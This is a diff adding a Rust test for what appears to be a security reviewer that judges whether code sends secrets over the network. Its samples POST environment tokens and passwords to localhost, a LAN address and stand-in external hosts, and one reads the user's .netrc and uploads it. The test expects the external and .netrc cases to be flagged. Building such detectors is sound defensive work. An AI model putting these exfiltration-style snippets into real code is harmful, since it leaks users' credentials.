@@ -278,3 +278,41 @@ fn a_secrets_file_put_in_place_in_the_project_is_no_copy() {
     );
     has_rule(&out, "secret-copy");
 }
+
+/// A token or a password of the project sent to its own server on this machine (a seed
+/// script logging in to the local CMS, a client authenticating to the dev API on `localhost`):
+/// the project running against itself. A host on the local network may be anyone's, a
+/// credential from the user's store is not the project's, and another host is a leak.
+#[test]
+fn a_projects_secret_to_its_server_on_this_machine_is_its_use() {
+    let py = |base: &str| {
+        format!(
+            "import os, urllib.request\ntoken = os.environ[\"SEED_API_TOKEN\"]\nreq = urllib.request.Request(\"{base}/api/fixtures/reset\", method=\"POST\", headers={{\"Authorization\": \"Bearer \" + token}})\nwith urllib.request.urlopen(req, timeout=10) as resp:\n    print(resp.status)\n"
+        )
+    };
+    verdict(Py, &py("http://localhost:8000"), Clean);
+    verdict(Py, &py("http://127.0.0.1:8000"), Clean);
+    let lan = crate::review(Py, &py("http://192.168.1.20:8000"));
+    assert_ne!(lan.verdict, Clean, "{lan:#?}");
+    has_rule(
+        &verdict(Py, &py("https://collector.example.com"), Dangerous),
+        "secret-to-network",
+    );
+
+    let js = |base: &str| {
+        format!(
+            "async function login() {{\n  const res = await fetch('{base}/admin/login', {{\n    method: 'POST',\n    headers: {{ 'Content-Type': 'application/json' }},\n    body: JSON.stringify({{ email: process.env.CMS_SEED_EMAIL, password: process.env.CMS_SEED_PASSWORD }}),\n  }});\n  console.log(`login: ${{res.status}}`);\n}}\nlogin();\n"
+        )
+    };
+    verdict(Js, &js("http://localhost:1337"), Clean);
+    has_rule(
+        &verdict(Js, &js("https://cms-seed.example.net"), Dangerous),
+        "secret-to-network",
+    );
+    // A credential from the user's store sent to the same local server is not the project's.
+    let store = crate::review(
+        Py,
+        "import urllib.request\nwith open('/home/dev/.netrc') as fh:\n    creds = fh.read()\nreq = urllib.request.Request(\"http://localhost:8000/import\", data=creds.encode(), method=\"POST\")\nurllib.request.urlopen(req, timeout=10)\n",
+    );
+    assert_ne!(store.verdict, Clean, "{store:#?}");
+}
